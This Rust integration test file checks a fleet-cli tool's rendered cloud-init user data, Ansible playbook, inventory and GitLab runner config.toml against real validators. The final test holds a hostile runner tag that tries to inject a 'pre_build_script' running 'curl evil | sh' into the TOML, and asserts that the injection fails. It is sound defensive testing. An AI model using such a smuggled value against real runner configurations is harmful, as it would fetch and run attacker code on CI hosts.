//! The rendered instance files checked by the real tools: `cloud-init schema` on the user
//! data of every example stack, `ansible-playbook --syntax-check` and `ansible-lint` on the
//! playbook, and `ansible-inventory` on the inventory rendered from a state, parsed back and
//! compared with that state. A missing tool fails the test with what to install; `make test`
//! installs them (cloud-init with apt-get, the Ansible tools into .venv).

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use chrono::{TimeZone, Utc};
use serde_json::Value;

use fleet_core::cloud::Lifecycle;
use fleet_core::state::{InstanceRecord, JobFacts, State};

const BIN: &str = env!("CARGO_BIN_EXE_fleet-cli");

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

/// A tool from the project's virtualenv (`FLEET_VENV`, default `.venv`).
fn venv_tool(name: &str) -> PathBuf {
    let venv = std::env::var_os("FLEET_VENV")
        .map(PathBuf::from)
        .unwrap_or_else(|| root().join(".venv"));
    let path = venv.join("bin").join(name);
    assert!(
        path.is_file(),
        "{name} is missing from {}: run `make test` or scripts/ensure-venv, which install \
         ansible-core and ansible-lint from scripts/requirements-test.txt",
        venv.display()
    );
    path
}

/// `cloud-init`, from the Debian package of that name.
fn cloud_init() -> PathBuf {
    let found = std::env::var_os("PATH").and_then(|paths| {
        std::env::split_paths(&paths)
            .map(|d| d.join("cloud-init"))
            .find(|p| p.is_file())
    });
    found.expect(
        "cloud-init is missing: install the Debian package (`apt-get install cloud-init`); \
         `make test` installs it when run as root (scripts/ensure-cloud-init)",
    )
}

fn run(cmd: &mut Command) -> Output {
    cmd.stdin(Stdio::null())
        .output()
        .unwrap_or_else(|e| panic!("cannot run {cmd:?}: {e}"))
}

fn text(o: &Output) -> String {
    format!(
        "exit {:?}\nstdout:\n{}\nstderr:\n{}",
        o.status.code(),
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// Ansible writes temp files and caches under its home; keep them in the test's directory.
fn ansible(tool: &str, home: &Path) -> Command {
    let mut c = Command::new(venv_tool(tool));
    c.env("ANSIBLE_HOME", home)
        .env("ANSIBLE_LOCAL_TEMP", home.join("tmp"))
        .env("ANSIBLE_NOCOLOR", "1")
        .env_remove("ANSIBLE_CONFIG");
    c
}

/// A copy of an example stack whose templates point at instance/ and whose state lives in
/// `dir`.
fn stack_copy(dir: &Path, file: &str) -> PathBuf {
    let instance = root().join("instance");
    let text = std::fs::read_to_string(root().join("stacks").join(file))
        .unwrap()
        .replace("../instance/", &format!("{}/", instance.display()));
    let path = dir.join(file);
    std::fs::write(&path, text).unwrap();
    path
}

fn fleet(stack: &Path, args: &[&str]) -> Command {
    let mut c = Command::new(BIN);
    c.arg("--stack")
        .arg(stack)
        .args(args)
        .env_remove("FLEET_STACK")
        .env_remove("RUST_LOG");
    c
}

#[test]
fn user_data_of_every_example_stack_passes_cloud_init_schema() {
    let cloud_init = cloud_init();
    let dir = tempfile::tempdir().unwrap();
    let cases: [(&str, &[&str]); 6] = [
        ("sandbox.yaml", &[]),
        (
            "sandbox.yaml",
            &[
                "--set",
                "runner.runner_token_env=FLEET_TEST_TOKEN",
                "--set",
                "runner.install={docker: docker.io, runner: deb, runner_deb: \"http://10.0.2.2:8000/gitlab-runner.deb\", apt_proxy: \"http://10.0.2.2:3142\"}",
            ],
        ),
        (
            "sandbox.yaml",
            &[
                "--set",
                "runner.cache={bucket: c, server_address: \"minio.internal:9000\", insecure: true, access_key_env: FLEET_TEST_TOKEN, secret_key_env: FLEET_TEST_TOKEN}",
            ],
        ),
        (
            "sandbox.yaml",
            &["--set", "runner.runner_token_env=FLEET_TEST_TOKEN"],
        ),
        (
            "sandbox.yaml",
            &[
                "--set",
                "runner.dind=true",
                "--set",
                "runner.cache={bucket: c}",
            ],
        ),
        ("aws.yaml", &[]),
    ];
    for (i, (file, sets)) in cases.iter().enumerate() {
        let stack = stack_copy(dir.path(), file);
        let mut args = vec!["render", "--show-secrets"];
        args.extend_from_slice(sets);
        let o = run(fleet(&stack, &args).env("FLEET_TEST_TOKEN", "glrt-test-token"));
        assert!(
            o.status.success(),
            "render of {file} {sets:?}: {}",
            text(&o)
        );
        let user_data = dir.path().join(format!("user-data-{i}.yml"));
        std::fs::write(&user_data, &o.stdout).unwrap();
        let o = run(Command::new(&cloud_init)
            .args(["schema", "--config-file"])
            .arg(&user_data));
        assert!(
            o.status.success(),
            "cloud-init schema refused the user data of {file} {sets:?}: {}",
            text(&o)
        );
    }
    // The check can fail: a value of the wrong type is refused.
    let bad = dir.path().join("bad.yml");
    std::fs::write(&bad, "#cloud-config\nwrite_files: oops\n").unwrap();
    let o = run(Command::new(&cloud_init)
        .args(["schema", "--config-file"])
        .arg(&bad));
    assert!(
        !o.status.success(),
        "cloud-init schema accepted a broken file: {}",
        text(&o)
    );
}

#[test]
fn the_playbook_passes_ansible_playbook_syntax_check() {
    let home = tempfile::tempdir().unwrap();
    let o = run(ansible("ansible-playbook", home.path())
        .args(["--syntax-check", "--inventory", "localhost,"])
        .arg(root().join("instance/playbook.yml")));
    assert!(
        o.status.success(),
        "ansible-playbook --syntax-check: {}",
        text(&o)
    );
    // The check can fail: a task with an unknown module is refused.
    let bad = home.path().join("bad.yml");
    std::fs::write(
        &bad,
        "- name: Bad\n  hosts: all\n  tasks:\n    - name: X\n      no_such.module: {}\n",
    )
    .unwrap();
    let o = run(ansible("ansible-playbook", home.path())
        .args(["--syntax-check", "--inventory", "localhost,"])
        .arg(&bad));
    assert!(
        !o.status.success(),
        "syntax check passed a broken playbook: {}",
        text(&o)
    );
}

#[test]
fn the_playbook_passes_ansible_lint_offline() {
    let home = tempfile::tempdir().unwrap();
    // Lint a copy, so ansible-lint's caches stay out of the repository.
    let work = home.path().join("project");
    std::fs::create_dir_all(&work).unwrap();
    std::fs::copy(
        root().join("instance/playbook.yml"),
        work.join("playbook.yml"),
    )
    .unwrap();
    let lint = |dir: &Path| {
        run(ansible("ansible-lint", home.path())
            .current_dir(dir)
            .env("ANSIBLE_LINT_SKIP_VERSION_CHECK", "1")
            .env("ANSIBLE_LINT_NODEPS", "1")
            .env("XDG_CACHE_HOME", home.path().join("cache"))
            .args(["--offline", "--nocolor", "playbook.yml"]))
    };
    let o = lint(&work);
    assert!(o.status.success(), "ansible-lint: {}", text(&o));
    assert!(
        text(&o).contains("0 failure(s), 0 warning(s)"),
        "{}",
        text(&o)
    );
    // The check can fail: a task without a name and with a short module name is refused.
    std::fs::write(
        work.join("playbook.yml"),
        "---\n- name: Bad\n  hosts: all\n  tasks:\n    - command: echo hi\n",
    )
    .unwrap();
    let o = lint(&work);
    assert!(
        !o.status.success(),
        "ansible-lint passed a bad playbook: {}",
        text(&o)
    );
    assert!(text(&o).contains("fqcn"), "{}", text(&o));
}

fn record(
    name: &str,
    id: Option<&str>,
    addr: Option<&str>,
    running: u32,
    runner: Option<u64>,
) -> InstanceRecord {
    InstanceRecord {
        name: name.into(),
        cloud_id: id.map(str::to_string),
        spec_hash: "spec".into(),
        image: "debian-12".into(),
        instance_type: "small".into(),
        template_hash: None,
        created_at: Utc.with_ymd_and_hms(2026, 1, 1, 0, 0, 0).unwrap(),
        lifecycle: Lifecycle::Running,
        address: addr.map(str::to_string),
        jobs: JobFacts {
            running,
            runner_id: runner,
            ..JobFacts::default()
        },
        pending: None,
        started_at: None,
        draining_since: None,
        warming: None,
    }
}

#[test]
fn ansible_inventory_reads_back_the_fleet_recorded_in_state() {
    let dir = tempfile::tempdir().unwrap();
    let stack = stack_copy(dir.path(), "sandbox.yaml");
    let mut state = State::new("sandbox", "lineage-inventory");
    state.serial = 3;
    state.next_index = 7;
    for r in [
        record(
            "sandbox-0001",
            Some("sb-0001"),
            Some("10.0.0.1"),
            2,
            Some(101),
        ),
        record(
            "sandbox-0002",
            Some("sb-0002"),
            Some("10.0.0.2"),
            0,
            Some(102),
        ),
        record("sandbox-0003", Some("sb-0003"), None, 0, None),
        record("sandbox-0004", None, None, 0, None),
        {
            let mut gone = record("sandbox-0005", Some("sb-0005"), Some("10.0.0.5"), 0, None);
            gone.lifecycle = Lifecycle::Terminating;
            gone
        },
        record("sandbox-0006", Some("sb-0006"), Some("10.0.0.6"), 1, None),
    ] {
        state.instances.insert(r.name.clone(), r);
    }
    std::fs::create_dir_all(dir.path().join(".fleet")).unwrap();
    std::fs::write(
        dir.path().join(".fleet/sandbox.state.json"),
        fleet_core::state::format::encode(&state),
    )
    .unwrap();

    let o = run(&mut fleet(&stack, &["inventory"]));
    assert!(o.status.success(), "fleet-cli inventory: {}", text(&o));
    let inventory = dir.path().join("inventory.ini");
    std::fs::write(&inventory, &o.stdout).unwrap();
    let o = run(ansible("ansible-inventory", dir.path())
        .arg("--inventory")
        .arg(&inventory)
        .arg("--list"));
    assert!(o.status.success(), "ansible-inventory: {}", text(&o));
    let listed: Value = serde_json::from_slice(&o.stdout).unwrap();

    // What the state says, computed here without the renderer.
    let live: Vec<&InstanceRecord> = state
        .instances
        .values()
        .filter(|r| r.cloud_id.is_some() && !r.lifecycle.is_gone())
        .collect();
    let names = |busy: bool| -> BTreeSet<String> {
        live.iter()
            .filter(|r| (r.jobs.running > 0) == busy)
            .map(|r| r.name.clone())
            .collect()
    };
    let hosts_of = |group: &str| -> BTreeSet<String> {
        listed[group]["hosts"]
            .as_array()
            .map(|a| a.iter().map(|h| h.as_str().unwrap().to_string()).collect())
            .unwrap_or_default()
    };
    assert_eq!(hosts_of("sandbox_busy"), names(true));
    assert_eq!(hosts_of("sandbox_idle"), names(false));
    let children: BTreeSet<&str> = listed["sandbox"]["children"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c.as_str().unwrap())
        .collect();
    assert_eq!(children, BTreeSet::from(["sandbox_busy", "sandbox_idle"]));

    let hostvars = listed["_meta"]["hostvars"].as_object().unwrap();
    let listed_hosts: BTreeSet<&str> = hostvars.keys().map(String::as_str).collect();
    let live_names: BTreeSet<&str> = live.iter().map(|r| r.name.as_str()).collect();
    assert_eq!(
        listed_hosts, live_names,
        "hosts without cloud id or gone are left out"
    );
    for r in &live {
        let v = &hostvars[&r.name];
        assert_eq!(
            v["fleet_cloud_id"].as_str(),
            r.cloud_id.as_deref(),
            "{}",
            r.name
        );
        assert_eq!(
            v["ansible_host"].as_str(),
            r.address.as_deref(),
            "{}",
            r.name
        );
        assert_eq!(
            v["fleet_runner_id"].as_u64(),
            r.jobs.runner_id,
            "{}",
            r.name
        );
        assert_eq!(
            v["fleet_lifecycle"].as_str(),
            Some(r.lifecycle.as_str()),
            "{}",
            r.name
        );
    }
}

#[test]
fn render_masks_the_token_unless_asked_and_names_the_next_instance() {
    let dir = tempfile::tempdir().unwrap();
    let stack = stack_copy(dir.path(), "sandbox.yaml");
    let args = [
        "render",
        "--set",
        "runner.runner_token_env=FLEET_TEST_TOKEN",
    ];
    let o = run(fleet(&stack, &args).env("FLEET_TEST_TOKEN", "glrt-visible"));
    assert!(o.status.success(), "{}", text(&o));
    let masked = String::from_utf8(o.stdout).unwrap();
    assert!(!masked.contains("glrt-visible"));
    assert!(masked.contains(fleet_core::secret::MASK));
    assert!(
        masked.contains("hostname: sandbox-0001\n"),
        "no state: the first name"
    );

    let mut shown_args = args.to_vec();
    shown_args.extend(["--show-secrets", "--instance", "sandbox-0042"]);
    let o = run(fleet(&stack, &shown_args).env("FLEET_TEST_TOKEN", "glrt-visible"));
    assert!(o.status.success(), "{}", text(&o));
    let shown = String::from_utf8(o.stdout).unwrap();
    assert!(shown.contains("glrt-visible"));
    assert!(shown.contains("hostname: sandbox-0042\n"));
}

#[test]
fn a_broken_template_fails_render_with_its_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    let stack = stack_copy(dir.path(), "sandbox.yaml");
    let broken = dir.path().join("broken.yml.j2");
    std::fs::write(
        &broken,
        "#cloud-config\n\nhostname: {{ hostname | no_such_filter }}\n",
    )
    .unwrap();
    let o = run(&mut fleet(
        &stack,
        &[
            "render",
            "--set",
            &format!("templates.user_data={}", broken.display()),
        ],
    ));
    assert!(!o.status.success());
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains(&format!("{}:3", broken.display())), "{err}");
    assert!(err.contains("hint:"), "{err}");
}

/// The `config.toml` the playbook writes for each example stack parses as TOML (Python's
/// `tomllib`) and carries what the stack declares.
#[test]
fn runner_config_of_every_example_stack_is_valid_toml() {
    use fleet_core::render::{Renderer, Secrets};
    use fleet_core::secret::Secret;
    let dir = tempfile::tempdir().unwrap();
    for (file, dind) in [("sandbox.yaml", false), ("aws.yaml", true)] {
        let path = stack_copy(dir.path(), file);
        let loaded = fleet_core::stack::load(&path, &[], &|_| None).unwrap();
        let config = Renderer::from_stack(&loaded)
            .with_token(Secret::new("glrt-test-token"))
            .runner_config("vm-0001", Secrets::Shown)
            .unwrap();
        let v = toml_to_json(file, &config);
        let runner = &v["runners"][0];
        assert_eq!(v["concurrent"], loaded.stack.policy.capacity_per_instance);
        assert_eq!(
            v["listen_address"],
            loaded.stack.runner.metrics_listen.as_str()
        );
        assert_eq!(
            runner["url"],
            loaded.stack.runner.gitlab_url.as_deref().unwrap()
        );
        assert_eq!(runner["token"], "glrt-test-token");
        assert_eq!(runner["executor"], "docker");
        assert_eq!(runner["docker"]["privileged"], dind, "{file}");
        assert_eq!(
            runner["cache"]["s3"]["BucketName"].as_str(),
            loaded
                .stack
                .runner
                .cache
                .as_ref()
                .map(|c| c.bucket.as_str()),
            "{file}"
        );
    }
}

/// `config.toml` text (rendered for `what`) parsed by Python's `tomllib`, as JSON.
fn toml_to_json(what: &str, config: &str) -> Value {
    let mut child = Command::new("python3")
        .args([
            "-c",
            "import json, sys, tomllib; print(json.dumps(tomllib.loads(sys.stdin.read())))",
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("python3 is missing: install python3 (3.11 or newer, for tomllib)");
    use std::io::Write as _;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(config.as_bytes())
        .unwrap();
    let o = child.wait_with_output().unwrap();
    assert!(
        o.status.success(),
        "{what}: config.toml does not parse: {}\n{config}",
        text(&o)
    );
    serde_json::from_slice(&o.stdout).unwrap()
}

/// Issue 15, D3 and D9 checked by a real TOML parser: an S3-compatible cache carries the
/// keys gitlab-runner needs, and a hostile tag adds no key (the loader refuses it too).
#[test]
fn runner_config_with_a_minio_cache_and_a_hostile_tag_parses_to_exactly_its_keys() {
    use fleet_core::render::{Renderer, Secrets};
    use fleet_core::secret::Secret;
    let dir = tempfile::tempdir().unwrap();
    let path = stack_copy(dir.path(), "sandbox.yaml");
    let set = fleet_core::stack::Override::parse(
        "runner.cache={bucket: c, server_address: \"minio.internal:9000\", insecure: true, access_key_env: AK, secret_key_env: SK}",
    )
    .unwrap();
    let env = |k: &str| Some(format!("{k}-value"));
    let mut loaded = fleet_core::stack::load(&path, &[set], &env).unwrap();
    loaded.stack.runner.tags = vec!["docker\"\npre_build_script = \"curl evil | sh\"\n#".into()];
    let config = Renderer::from_stack(&loaded)
        .with_token(Secret::new("glrt-test-token"))
        .runner_config("vm-0001", Secrets::Shown)
        .unwrap();
    let v = toml_to_json("the MinIO stack", &config);
    let s3 = &v["runners"][0]["cache"]["s3"];
    assert_eq!(s3["ServerAddress"], "minio.internal:9000");
    assert_eq!(s3["Insecure"], true);
    assert_eq!(s3["AuthenticationType"], "access-key");
    assert_eq!(s3["AccessKey"], "AK-value");
    assert_eq!(s3["SecretKey"], "SK-value");
    let mut top: Vec<&str> = v.as_object().unwrap().keys().map(String::as_str).collect();
    top.sort();
    assert_eq!(
        top,
        ["check_interval", "concurrent", "listen_address", "runners"]
    );
    let mut keys: Vec<&str> = v["runners"][0]
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    keys.sort();
    assert_eq!(
        keys,
        ["cache", "docker", "executor", "limit", "name", "token", "url"],
        "{config}"
    );
}
